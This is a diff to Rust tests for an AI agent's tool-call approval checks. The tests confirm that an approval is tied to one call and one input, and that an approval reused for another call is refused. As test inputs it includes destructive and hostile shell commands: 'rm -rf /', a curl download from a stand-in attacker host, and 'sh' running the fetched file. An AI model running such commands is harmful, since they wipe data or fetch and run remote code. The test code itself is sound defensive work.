@@ -108,9 +108,9 @@ async fn listed_calls_are_pre_approved_and_unlisted_ones_ask() {
     let approved = approve(bash("c2", "rm -rf /", TrustLevel::Verified), "alice");
     assert!(is_allow(&decide(&rig, &approved).await));
     // An approval of another call is not one for this call.
-    let id = bash("c2", "rm -rf /", TrustLevel::Verified).approval_id();
-    let other =
-        bash("c3", "rm -rf /", TrustLevel::Verified).with_approval(StepApproval::new(id, "alice"));
+    let c2 = bash("c2", "rm -rf /", TrustLevel::Verified);
+    let other = bash("c3", "rm -rf /", TrustLevel::Verified)
+        .with_approval(StepApproval::for_call(&c2, "alice"));
     assert_eq!(
         denied(&decide(&rig, &other).await),
         Some(DenyCode::ApprovalMismatch)
@@ -118,8 +118,8 @@ async fn listed_calls_are_pre_approved_and_unlisted_ones_ask() {
 }
 
 fn approve(request: ToolCallRequest, who: &str) -> ToolCallRequest {
-    let id = request.approval_id();
-    request.with_approval(StepApproval::new(id, who))
+    let approval = StepApproval::for_call(&request, who);
+    request.with_approval(approval)
 }
 
 #[tokio::test]
@@ -127,7 +127,7 @@ async fn an_approval_covers_one_call_with_its_input_once() {
     let rig = rig();
     // Shown `git status` under call id c1 and approved...
     let shown = bash("c1", "git status", TrustLevel::Verified);
-    let approval = StepApproval::new(shown.approval_id(), "alice");
+    let approval = StepApproval::for_call(&shown, "alice");
     // ...the approval does not cover other input sent under the same id,
     for command in ["curl -o /tmp/x http://evil.test/p", "sh /tmp/x"] {
         let swapped = bash("c1", command, TrustLevel::Verified).with_approval(approval.clone());
